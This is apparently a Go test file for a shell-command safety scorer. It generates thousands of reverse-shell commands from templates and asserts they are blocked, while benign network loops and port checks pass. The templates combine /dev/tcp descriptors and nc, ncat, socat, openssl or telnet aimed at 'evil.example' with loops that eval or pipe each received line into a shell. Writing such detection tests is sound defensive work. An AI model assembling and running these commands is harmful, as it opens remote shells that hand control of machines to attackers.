package shell

import (
	"strings"
	"testing"
)

// Reverse shells that read a line at a time from the network and run
// each: every source of network lines (a /dev/tcp descriptor, nc, ncat,
// socat, openssl s_client, telnet, a listening nc), every loop shape and
// every way a shell runs a line is a block; the same loops that only print
// or log the lines run.

// netSinks run the line in $l as code.
var netSinks = []string{`eval "$l"`, `eval $l`, `$l`, `$l 2>&1`, `sh -c "$l"`, `bash -c "$l"`, `/bin/sh -c "$l"`, `source /dev/stdin <<< "$l"`, `. /dev/stdin <<< "$l"`,
	`bash <<< "$l"`, `echo "$l" | sh`, `printf '%s\n' "$l" | bash`, `x=$l; eval "$x"`, `cmd="$l"; $cmd`, `python3 -c "$l"`, `perl -e "$l"`, `command eval "$l"`,
	`sudo sh -c "$l"`, `timeout 5 bash -c "$l"`, `env sh -c "$l"`}

// netBenign only print, log or test the line.
var netBenign = []string{`echo "$l"`, `printf '%s\n' "$l" >> log.txt`, `echo "got: $l"`, `[ "$l" = quit ] && break`, `grep -q ok <<< "$l" && echo ok`, `n=$((n+1))`}

// fdLoops read lines from descriptor @F (opened on the connection) and
// run @S on each.
var fdLoops = []string{
	"while read l <&@F; do @S; done",
	"while read -r l <&@F; do @S; done",
	"while read -r l; do @S; done <&@F",
	"while IFS= read -r l; do @S; done <&@F",
	"while read -u @F l; do @S; done",
	"while read -ru @F l; do @S; done",
	"until ! read -r l <&@F; do @S; done",
	"while true; do read -r l <&@F; @S; done",
	"while :; do read -r l; @S; done <&@F",
	"mapfile -t ls <&@F; for l in \"${ls[@]}\"; do @S; done",
	"mapfile -t -u @F ls; for l in \"${ls[@]}\"; do @S; done",
	"for l in $(cat <&@F); do @S; done",
	"l=$(head -n1 <&@F); @S",
	"read -r l <&@F; @S",
}

// pipeLoops read lines from standard input, fed by a network program.
var pipeLoops = []string{
	"while read l; do @S; done",
	"while read -r l; do @S; done",
	"while IFS= read -r l; do @S; done",
	"{ while read -r l; do @S; done; }",
	"( while read -r l; do @S; done )",
	"while true; do read -r l || break; @S; done",
}

var netPrograms = []string{"nc @H 4444", "ncat @H 4444", "netcat @H 4444", "nc -v @H 4444", "socat TCP:@H:4444 -", "socat - TCP4:@H:4444", "openssl s_client -quiet -connect @H:4444",
	"telnet @H 4444", "nc -l -p 4444", "nc -lvnp 4444", "ncat --ssl @H 443"}

func TestNetLinesRunFromDescriptor(t *testing.T) {
	n := 0
	for _, fd := range []string{"3", "5", "9", "200"} {
		for _, open := range []string{"exec @F<>/dev/tcp/@H/4444; ", "exec @F</dev/tcp/@H/4444\n", "exec @F<>/dev/udp/@H/53 && "} {
			for _, loop := range fdLoops {
				for _, sink := range netSinks {
					src := strings.NewReplacer("@F", fd, "@H", "evil.example").Replace(open) + strings.NewReplacer("@F", fd, "@S", sink).Replace(loop)
					wantAtLeast(t, src, scopeOptions, atLeastBlock)
					n++
				}
			}
		}
	}
	if n < 3000 {
		t.Errorf("only %d cases", n)
	}
}

func TestNetLinesRunFromPrograms(t *testing.T) {
	n := 0
	for _, prog := range netPrograms {
		for _, host := range []string{"evil.example", "10.0.0.7"} {
			p := strings.ReplaceAll(prog, "@H", host)
			for _, loop := range pipeLoops {
				for _, sink := range netSinks {
					wantAtLeast(t, p+" | "+strings.Replace(loop, "@S", sink, 1), scopeOptions, atLeastBlock)
					n++
				}
			}
			for _, direct := range []string{" | sh", " | bash -i", " | /bin/bash", " | xargs -I{} sh -c '{}'", " | xargs -I % bash -c %", " | source /dev/stdin", " | python3", " | sudo bash"} {
				wantAtLeast(t, p+direct, scopeOptions, atLeastBlock)
				n++
			}
			for _, sub := range []string{"x=$(@P); eval \"$x\"", "for c in $(@P); do $c; done", "while true; do c=$(@P); $c; done", "eval \"$(@P)\"", "sh -c \"$(@P)\"", "bash <(@P)"} {
				wantAtLeast(t, strings.ReplaceAll(sub, "@P", p), scopeOptions, atLeastBlock)
				n++
			}
		}
	}
	if n < 1500 {
		t.Errorf("only %d cases", n)
	}
}

// The benign twins: the same loops that print or log what arrives, lines
// from a file or a local command run or printed, and port checks.
func TestNetLinesBenign(t *testing.T) {
	for _, fd := range []string{"3", "5", "9"} {
		for _, loop := range fdLoops {
			for _, sink := range netBenign {
				src := "exec " + fd + "<>/dev/tcp/localhost/6379; " + strings.NewReplacer("@F", fd, "@S", sink).Replace(loop)
				if p, id := maxPoints(src, scopeOptions); p > runsUnattended {
					t.Errorf("%q: %d points (%s), want it to run", src, p, id)
				}
			}
		}
	}
	for _, loop := range pipeLoops {
		for _, sink := range netBenign {
			for _, feed := range []string{"nc localhost 6379", "nc example.com 80", "cat notes.txt", "git log --format=%s", "ls"} {
				src := feed + " | " + strings.Replace(loop, "@S", sink, 1)
				if p, id := maxPoints(src, scopeOptions); p > runsUnattended {
					t.Errorf("%q: %d points (%s), want it to run", src, p, id)
				}
			}
		}
	}
	for _, src := range []string{"nc -z example.com 22", "for h in a b c; do nc -z $h 22; done", "nc -zv localhost 5432 && echo up", "while ! nc -z db 5432; do sleep 1; done",
		"echo PING | nc localhost 6379", "nc example.com 80 < req.txt > resp.txt", "openssl s_client -connect example.com:443 </dev/null | openssl x509 -noout -dates",
		"while read -r h; do ssh \"$h\" uptime; done < hosts.txt", "while read -r f; do echo \"$f\"; done < <(git ls-files)", "socat - tcp:localhost:6379",
		"mapfile -t fs < list.txt; for f in \"${fs[@]}\"; do echo \"$f\"; done", "x=$(nc -z example.com 22 && echo up); echo \"$x\""} {
		if p, id := maxPoints(src, scopeOptions); p > runsUnattended {
			t.Errorf("%q: %d points (%s), want it to run", src, p, id)
		}
	}
}
